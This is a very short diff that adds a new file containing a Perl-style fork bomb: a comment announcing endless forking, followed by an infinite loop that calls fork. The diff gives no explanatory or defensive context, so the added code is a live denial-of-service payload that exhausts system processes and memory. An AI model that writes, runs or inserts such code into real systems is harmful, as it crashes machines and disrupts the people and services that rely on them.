@@ -1,0 +1,2 @@
+# Every process forks for ever, whatever is refused.
+while (1) { fork }
